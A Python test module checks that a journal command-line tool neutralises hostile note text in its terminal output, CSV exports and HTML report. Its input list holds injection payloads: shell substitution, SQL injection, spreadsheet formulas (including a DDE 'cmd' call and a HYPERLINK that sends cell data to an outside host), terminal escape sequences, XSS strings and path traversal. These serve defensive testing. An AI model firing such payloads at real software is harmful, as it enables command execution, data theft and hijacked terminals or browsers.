"""Hostile text in notes, tags, names and files: nothing of it reaches the terminal, a cell or a page raw."""

import csv
import html.parser
import io
import os
import pty
import re
import subprocess
import unicodedata

from subject import Outcome

TEXTS = [
    "'; drop table episode; --", "%s%n%x", "$(touch made)", "`id`", "-v", "--", "\\", '"', "a,b",
    "two\nlines", "back\rwards", "a\ttab", "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1",
    '=HYPERLINK("http://x.invalid/?"&A1)', "=cmd|'/c calc'!A1", "＝1+1", "＠x", '","=1+1',
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;cHduZWQ=\x07", "\x1b[6n", "\x1bc",
    "\x1b]8;;http://x.invalid\x1b\\link\x1b]8;;\x1b\\", "\x9b2J", "\x9d0;t\x9c", "\x07", "\x08\x08", "\x7f",
    "\u202edesrever", "\u2066x\u2069", "\u200b", "\ufeffmark", "e\u0301", "\u2028", "\u0085",
    "眼瞼痙攣", "👩‍👩‍👧‍👦", "x" * 9000, "a" + "\u0300" * 300,
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
    "</style><svg onload=1>", "&lt;b&gt;", "{{7*7}}", "]]>", "NULL", "nan", "1e999", "../../etc/passwd",
]
FORMULA = re.compile(r"^[=+\-@\t\r\n＝＋－＠]")
NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$")


class Page(html.parser.HTMLParser):
    """What a browser would run or fetch."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attributes):
        if tag in ("script", "iframe", "object", "embed", "form", "base", "link", "foreignobject"):
            self.found.append(tag)
        for name, value in attributes:
            if name.startswith("on"):
                self.found.append(f"{tag} {name}")
            elif name in ("href", "src", "action", "srcset") and re.match(
                    r"\s*(javascript|data:text|https?:|//|file:)", value or "", re.IGNORECASE):
                self.found.append(f"{tag} {name}")


def hostile(subject):
    outcome = Outcome()
    if subject.name != "twj":
        outcome.remarks.append("only asked of twj")
        return outcome
    program, folder = os.environ["TWJ"], subject.folders.new()
    journal = [program, "--db", folder + "/journal.db"]
    for text in TEXTS:
        done = subprocess.run(
            [*journal, "log", "lid", "-q", ":", text], capture_output=True, stdin=subprocess.DEVNULL)
        outcome.add(f"a note {text[:20]!r}", ["refused"] if done.returncode else [])
    for words in (["list", "--all"], ["show", "1"], ["week"], ["report"], ["history"], ["checkup"],
                  ["list", "--all", "--plain"], ["list", "--all", "--json"]):
        raw = raw_bytes([*journal, *words])
        outcome.add("twj " + " ".join(words), raw[:2])
    subprocess.run([*journal, "export", "csv", "--notes", "-o", folder + "/csv"], capture_output=True)
    for name in sorted(os.listdir(folder + "/csv")):
        if name.endswith(".csv"):
            outcome.add(name, live_cells(os.path.join(folder, "csv", name))[:2])
    subprocess.run([*journal, "report", "--notes", "-o", folder + "/page.html"], capture_output=True)
    page = Page()
    with open(folder + "/page.html", encoding="utf-8") as file:
        page.feed(file.read())
    outcome.add("page.html", page.found[:2])
    return outcome


def raw_bytes(words):
    """Control and direction characters in what is printed to a pipe and to a terminal."""
    piped = subprocess.run(words, capture_output=True, stdin=subprocess.DEVNULL).stdout
    printed = io.BytesIO()
    child, terminal = pty.fork()
    if child == 0:
        os.execvpe(words[0], words, {**os.environ, "TERM": "xterm-256color", "PAGER": "cat"})
    try:
        while data := os.read(terminal, 65536):
            printed.write(data)
    except OSError:
        pass
    os.waitpid(child, 0)
    coloured = re.sub(rb"\x1b\[[0-9;]*m", b"", printed.getvalue()).replace(b"\r\n", b"\n")
    return [
        f"{where}: {ord(letter):#x}"
        for where, data in (("pipe", piped), ("terminal", coloured))
        for letter in data.decode("utf-8", "surrogateescape")
        if letter not in "\n\t" and (
            unicodedata.category(letter) == "Cc" or "\u202a" <= letter <= "\u202e"
            or "\u2066" <= letter <= "\u2069" or "\udc80" <= letter <= "\udcff")]


def live_cells(path):
    with open(path, newline="", encoding="utf-8-sig") as file:
        rows = list(csv.reader(file, strict=True))
    wrongs = ["ragged rows"] if len({len(row) for row in rows}) > 1 else []
    return wrongs + [
        cell[:30] for row in rows for cell in row if FORMULA.match(cell) and not NUMBER.match(cell)]
